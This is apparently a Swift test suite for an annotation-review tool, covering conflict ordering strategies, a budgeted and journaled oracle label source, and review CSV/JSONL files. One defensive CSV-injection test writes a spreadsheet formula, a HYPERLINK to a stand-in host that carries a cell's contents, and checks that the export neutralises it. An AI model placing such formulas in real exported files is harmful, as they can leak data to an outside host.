import Annotations
import Foundation
import TeacherProtocol
import Testing

@Suite struct ReviewOrderTests {
  let conflicts = [
    conflict("a", ["x", "y"], [0.9, 0.9]), conflict("b", ["x", "y"], [0.6, 0.6]),
    conflict("c", ["x", "x", "y"], [0.9, 0.9, 0.9]), conflict("d", ["x", "y"]), conflict("e", ["x", "y"]),
  ]

  @Test func `every order keeps what orders must keep`() {
    let check = ReviewOrderCheck(conflicts: conflicts)
    #expect(check.problems(of: RandomOrder(seed: 1)) == [])
    #expect(check.problems(of: DisagreementConfidenceOrder()) == [])
    #expect(check.problems(of: UncertaintyOrder(probabilities: ["a": ["x": 0.5, "y": 0.5]])) == [])
    #expect(check.problems(of: VotePatternOrder(seed: 1)) == [])
    let table = VoteTable(
      teachers: ["t0", "t1"], items: ["a", "b", "c"], votes: [["x", "y"], ["x", "x"], ["y", "y"]])
    #expect(check.problems(of: ExpectedErrorOrder(DawidSkene(table))) == [])
    struct Lossy: ReviewOrder {
      func ordered(_ conflicts: [Conflict]) -> [Conflict] { Array(conflicts.prefix(2)) }
    }
    #expect(check.problems(of: Lossy()).count == 2)
  }

  @Test func `a random order is its seed's`() {
    let many = (0..<50).map { conflict("\($0)", ["x", "y"]) }
    let first = RandomOrder(seed: 1).ordered(many)
    #expect(RandomOrder(seed: 1).ordered(many.reversed()) == first)
    #expect(RandomOrder(seed: 2).ordered(many) != first)
  }

  @Test func `divided and sure teachers come first`() {
    let order = DisagreementConfidenceOrder()
    // One against one is a whole bit of one: 1 x confidence.
    #expect(order.score(conflicts[0]) == 0.9)
    #expect(order.score(conflicts[1]) == 0.6)
    // Two against one: (2/3 log 3/2 + 1/3 log 3) / log 3.
    let entropy = (2.0 / 3 * log2(1.5) + 1.0 / 3 * log2(3)) / log2(3)
    #expect(abs(order.score(conflicts[2]) - entropy * 0.9) < 1e-12)
    #expect(order.score(conflicts[3]) == 0.5)
    #expect(order.score(conflict("f", ["x"])) == 0)
    #expect(Array(order.ordered(conflicts).map(\.item.id).prefix(3)) == ["a", "b", "c"])
    #expect(DisagreementConfidenceOrder(unknownConfidence: 1).ordered(conflicts).first?.item.id != "a")
  }

  @Test func `conflicts of which the votes leave the label most open come first`() {
    // Teachers t0 and t1 always agree where t2 is alone, and t2 is wrong about half the time by them: three against one
    // another is as good as settled, t0 against t1 is open.
    let agreed = (0..<40).map { $0 % 2 == 0 ? ["x", "x", "x"] : ["y", "y", "y"] }
    let alone = (0..<20).map { $0 % 2 == 0 ? ["x", "x", "y"] : ["y", "y", "x"] }
    let open = [["x", "y", "x"], ["y", "x", "x"]]
    let votes = agreed + alone + open
    let fit = DawidSkene(
      VoteTable(teachers: ["t0", "t1", "t2"], items: votes.indices.map { "\($0)" }, votes: votes))
    let order = ExpectedErrorOrder(fit)
    let settled = conflict("settled", ["x", "x", "y"])
    let divided = conflict("divided", ["x", "y", "x"])
    // 1 less the probability of the label that is the most probable by the fit.
    let posterior = fit.posterior(of: ["x", "y", "x"])?.max() ?? 0
    #expect(order.score(divided) == 1 - posterior && order.score(divided) > order.score(settled))
    #expect(order.ordered([settled, divided]).map(\.item.id) == ["divided", "settled"])
    // Votes that the model has never seen say nothing.
    #expect(order.score(conflict("new", ["z", "w"])) == 1)
  }

  @Test func `ways to vote come by the square root of their number, so that rare ones are seen`() {
    let many = (0..<20).map { conflict("m\($0)", ["x", "y", "y"]) }
    let few = (0..<3).map { conflict("f\($0)", ["x", "x", "y"]) } + [conflict("g", ["y", "x", "y"])]
    let ordered = VotePatternOrder(seed: 4).ordered(many + few)
    // The twenty stand at 0.11, 0.34, 0.56, 0.78, 1.01, 1.23, 1.45 ..., the three at 0.29, 0.87 and 1.44, the one at 0.5.
    let ways = ordered.map { $0.votes.map(\.label).joined() }
    let first = ["xyy", "xxy", "xyy", "yxy", "xyy", "xyy", "xxy", "xyy", "xyy", "xxy"]
    #expect(Array(ways.prefix(10)) == first && ways[10...].allSatisfy { $0 == "xyy" })
    // Within a way a fair draw of the seed.
    #expect(VotePatternOrder(seed: 4).ordered((many + few).reversed()) == ordered)
    #expect(VotePatternOrder(seed: 5).ordered(many + few) != ordered)
  }

  @Test func `what the student is undecided on comes first`() {
    let order = UncertaintyOrder(probabilities: [
      "a": ["x": 0.9, "y": 0.1], "b": ["x": 0.5, "y": 0.5], "c": ["x": 1, "y": 0],
    ])
    #expect(Array(order.ordered(conflicts).map(\.item.id).prefix(3)) == ["b", "a", "c"])
  }
}

@Suite struct OracleLabelSourceTests {
  let scratch: Scratch
  let items = (0..<10).map { Item(id: "\($0)", fields: [:]) }
  let gold = GoldAnswers(
    Dictionary(uniqueKeysWithValues: (0..<9).map { ("\($0)", $0 % 2 == 0 ? "pristine" : "falsified") }))

  init() throws { scratch = try Scratch() }

  @Test func `it keeps what every source must keep`() async throws {
    let check = LabelSourceCheck(items: items, labels: .outOfContext)
    #expect(try await check.problems(of: OracleLabelSource(gold: gold, budget: 4)) == [])
    let journaled = try OracleLabelSource(gold: gold, budget: 4, journal: scratch.path("review.jsonl"))
    #expect(try await check.problems(of: journaled) == [])
    struct Fickle: LabelSource {
      func labels(for items: [Item]) async throws -> [String: String] {
        ["z": "maybe", items.first?.id ?? "y": "pristine"]
      }
    }
    #expect(try await check.problems(of: Fickle()).count == 4)
  }

  @Test func `the budget is never exceeded and asking again is free`() async throws {
    let source = try OracleLabelSource(gold: gold, budget: 4)
    #expect(try await source.labels(for: Array(items[0..<3])).count == 3)
    #expect(try await source.labels(for: Array(items[0..<3]) + Array(items[0..<3])).count == 3)
    #expect(await source.spent == 3)
    #expect(
      try await source.labels(for: items) == ["0": "pristine", "1": "falsified", "2": "pristine", "3": "falsified"])
    #expect(await source.spent == 4)
    #expect(gold.asked == ["0", "1", "2", "3"])
    let poor = try OracleLabelSource(gold: GoldAnswers(["0": "x"]), budget: 0)
    #expect(try await poor.labels(for: items).isEmpty)
  }

  @Test func `an item without a gold label costs nothing`() async throws {
    let source = try OracleLabelSource(gold: gold, budget: 1)
    #expect(try await source.labels(for: [items[9], items[0]]) == ["0": "pristine"])
    #expect(await source.spent == 1)
  }

  @Test func `a resumed run spends nothing twice and shares its budget`() async throws {
    let journal = scratch.path("run/review.jsonl")
    let first = try OracleLabelSource(gold: gold, budget: 4, journal: journal)
    _ = try await first.labels(for: Array(items[5..<8]))
    let fresh = GoldAnswers(gold.answers(of: items.map(\.id)))
    let second = try OracleLabelSource(gold: fresh, budget: 4, journal: journal)
    #expect(try await second.labels(for: items).keys.sorted() == ["0", "5", "6", "7"])
    #expect(fresh.asked == ["0"])
    #expect(await second.spent == 4)
    #expect(try await first.labels(for: items).keys.sorted() == ["0", "5", "6", "7"])
    #expect(await first.spent == 4)
    #expect(try scratch.text("run/review.jsonl").hasPrefix(#"{"item": "5", "label": "falsified"}"#))
  }

  @Test func `concurrent askers spend one budget`() async throws {
    let journal = scratch.path("review.jsonl")
    let sources = try (0..<3).map { _ in try OracleLabelSource(gold: gold, budget: 5, journal: journal) }
    try await withThrowingTaskGroup(of: Void.self) { group in
      for source in sources {
        for item in items { group.addTask { _ = try await source.labels(for: [item]) } }
      }
      try await group.waitForAll()
    }
    #expect(try scratch.text("review.jsonl").split(separator: "\n").count == 5)
  }

  @Test func `two labels of one item in a journal are an error and not the last one`() async throws {
    let journal = try scratch.file(
      "review.jsonl",
      "{\"item\": \"0\", \"label\": \"pristine\"}\n{\"item\": \"0\", \"label\": \"pristine\"}\n"
        + "{\"item\": \"0\", \"label\": \"falsified\"}\n")
    let source = try OracleLabelSource(gold: gold, budget: 2, journal: journal)
    await #expect(
      throws: AnnotationsError.badRow(
        RowProblem(
          file: journal.relativePath, line: 3, item: "0", field: "label",
          expected: "'pristine' as on an earlier line of the item", found: "'falsified'"))
    ) { try await source.labels(for: items) }
  }

  @Test func `a torn journal line was given to nobody and a damaged one is an error`() async throws {
    let journal = try scratch.file("review.jsonl", "{\"item\": \"0\", \"label\": \"pristine\"}\n{\"item\": \"1")
    let source = try OracleLabelSource(gold: gold, budget: 2, journal: journal)
    #expect(try await source.labels(for: Array(items[2..<4])) == ["2": "pristine"])
    #expect(try scratch.text("review.jsonl").split(separator: "\n").count == 2)
    let damaged = try scratch.file("damaged.jsonl", "{\"item\": \"0\"}\n")
    let other = try OracleLabelSource(gold: gold, budget: 2, journal: damaged)
    await #expect(throws: AnnotationsError.self) { try await other.labels(for: items) }
  }
}

@Suite struct ReviewFileTests {
  let scratch: Scratch
  let conflicts = [conflict("a", ["falsified", "pristine"], [0.5]), conflict("b,2", ["pristine", "falsified"])]

  init() throws { scratch = try Scratch() }

  @Test(arguments: ["review.csv", "review.jsonl"])
  func `a filled-in file is read back`(_ name: String) async throws {
    let file = scratch.path("out/\(name)")
    try ReviewFile.write(conflicts, to: file)
    let empty = try ReviewFileSource(file, labels: .outOfContext, items: ["a", "b,2"], strict: true)
    #expect(empty.labels.isEmpty)
    try ReviewFile.write(conflicts, answers: ["b,2": "Yes"], to: file)
    let source = try ReviewFileSource(file, labels: .outOfContext, items: ["a", "b,2"], strict: true)
    #expect(source.labels == ["b,2": "falsified"])
    #expect(source.spent == 1)
    let check = LabelSourceCheck(items: conflicts.map(\.item), labels: .outOfContext)
    #expect(try await check.problems(of: source) == [])
    let text = try scratch.text("out/\(name)")
    for part in ["because 0", "because 1", "a.jpg", "t0", "t1"] { #expect(text.contains(part)) }
  }

  @Test func `the table has a column for each field and teacher`() throws {
    try ReviewFile.write(conflicts, to: scratch.path("r.csv"))
    let lines = try scratch.text("r.csv").components(separatedBy: "\r\n")
    #expect(lines[0] == "\u{FEFF}item,label,image,field: text,t0: label,t0: rationale,t1: label,t1: rationale")
    #expect(lines[1] == #"a,,a.jpg,"Caption, ""a""",falsified,because 0,pristine,because 1"#)
  }

  /// OWASP, "CSV Injection": a cell that begins with one of = + - @, a tab or a carriage return is a formula to a spreadsheet.
  @Test func `a table shows what others wrote and computes nothing`() async throws {
    let formula = #"=HYPERLINK("http://example.invalid/?"&A2)"#
    let item = Item(id: "=1+1", fields: ["text": formula, "degrees": "-5", "user": "@somebody"])
    let replies = [annotation("k", item: "=1+1", rationale: "+1 for this")]
    let file = scratch.path("r.csv")
    try ReviewFile.write([Conflict(item: item, annotations: replies)], answers: ["=1+1": "No"], to: file)
    let line = try scratch.text("r.csv").components(separatedBy: "\r\n")[1]
    #expect(line == #"'=1+1,No,,-5,"'=HYPERLINK(""http://example.invalid/?""&A2)",'@somebody,falsified,'+1 for this"#)
    // An item that is called like the cell is not another one.
    for id in ["=1+1", "'=1+1"] {
      let source = try ReviewFileSource(file, labels: .outOfContext, items: [id], strict: true)
      #expect(source.labels == [id: "pristine"])
    }
  }

  @Test func `several images are written by slot and read back`() throws {
    func conflict(_ id: String, _ slots: [ImageSlot]) -> Conflict {
      Conflict(item: Item(id: id, imageSlots: slots, fields: ["text": "t"]), annotations: [])
    }
    let two = [ImageSlot(name: "photo", paths: ["a.png"]), ImageSlot(name: "found", paths: ["b.png", "c.png"])]
    let bare = [ImageSlot(name: "photo", paths: ["a.png"]), ImageSlot(name: "found", paths: [])]
    try ReviewFile.write([conflict("1", two), conflict("2", bare), conflict("3", [])], to: scratch.path("q.jsonl"))
    let questions = try ReviewQuestion.reading(scratch.path("q.jsonl"))
    #expect(questions.map(\.item.imageSlots) == [two, bare, []])
    // One image of one column is written as it always was; a list is taken too.
    try ReviewFile.write([conflict("1", [two[0]])], to: scratch.path("one.jsonl"))
    #expect(try scratch.text("one.jsonl").contains(#""image": "a.png""#))
    let list = try scratch.file("list.jsonl", #"{"item": "1", "image": ["a.png", "b.png"], "fields": {}}"#)
    #expect(try ReviewQuestion.reading(list)[0].item.images == ["a.png", "b.png"])
  }

  @Test(arguments: [
    (#"{"photo": "a.png", "found": ["b.png"], "more": null}"#, ["a.png", "b.png"]),
    (#"{"path": "a.png", "bytes": null}"#, ["a.png"]), (#"[{"path": "a.png"}, "b.png"]"#, ["a.png", "b.png"]),
    ("null", []), (#"" ""#, []), ("[]", []), (#""a.png""#, ["a.png"]),
  ])
  func `images of a queue are read as those of a data file`(image: String, expected: [String]) throws {
    let file = try scratch.file("forms.jsonl", #"{"item": "1", "image": \#(image), "fields": {}, "teachers": {}}"#)
    #expect(try ReviewQuestion.reading(file)[0].item.images == expected)
  }

  /// Whoever decides would be shown fewer images than the item has.
  @Test(arguments: [
    (#"["a.png", null]"#, "image", "null"), (#"{"photo": [" "]}"#, "image.photo", "a blank text"),
    (#"{"photo": {"name": "a.png"}}"#, "image.photo", "an object"), ("true", "image", "true or false"),
  ])
  func `what is no image's path in a queue is refused`(image: String, field: String, found: String) throws {
    let file = try scratch.file("broken.jsonl", #"{"item": "1", "image": \#(image), "fields": {}, "teachers": {}}"#)
    let error = try #require(throws: TeacherProtocolError.self) { try ReviewQuestion.reading(file) }
    #expect(
      "\(error)".contains("broken.jsonl:1: item '1', field '\(field)': expected paths of images, found \(found)"),
      "\(error)")
  }

  @Test func `a queue with an item twice is refused with both lines`() throws {
    let file = try scratch.file(
      "twice.jsonl", #"{"item": "1", "fields": {"text": "a"}}"# + "\n" + #"{"item": "2"}"# + "\n" + #"{"item": "1"}"#)
    let error = try #require(throws: TeacherProtocolError.self) { try ReviewQuestion.reading(file) }
    let words = "twice.jsonl:3: item '1', field 'item': expected every item once, found it again, as on line 1"
    #expect("\(error)".contains(words), "\(error)")
  }

  @Test func `unknown labels and items are listed with their row`() throws {
    let file = try scratch.file(
      "r.csv", "item,label\na,falsified\nb,perhaps\nz,No\n,Yes\na,pristine\nc,\na, 1 \nd,Yes,x\n")
    let source = try ReviewFileSource(file, labels: .outOfContext, items: ["a", "b", "c"])
    #expect(source.labels == ["a": "falsified"])
    #expect(source.setAside.map(\.line) == [3, 4, 5, 6, 9])
    #expect(source.setAside.map(\.field) == ["label", "item", "item", "label", nil])
    #expect(source.setAside[0].description.contains("expected one of pristine, falsified, found 'perhaps'"))
    #expect(throws: TeacherProtocolError.badRow(source.setAside[0])) {
      try ReviewFileSource(file, labels: .outOfContext, items: ["a", "b", "c"], strict: true)
    }
  }

  @Test func `a file without the columns is refused`() throws {
    let file = try scratch.file("r.csv", "id,label\na,Yes\n")
    #expect(
      throws: TeacherProtocolError.missingColumn(
        file: file.relativePath, column: "item", key: "item", known: ["id", "label"])
    ) { try ReviewFileSource(file, labels: .outOfContext) }
  }

  @Test func `a place that cannot be written is an error`() throws {
    let plain = try scratch.file("plain", "x")
    #expect(throws: AnnotationsError.self) {
      try ReviewFile.write(conflicts, to: plain.appendingPathComponent("r.csv"))
    }
  }
}
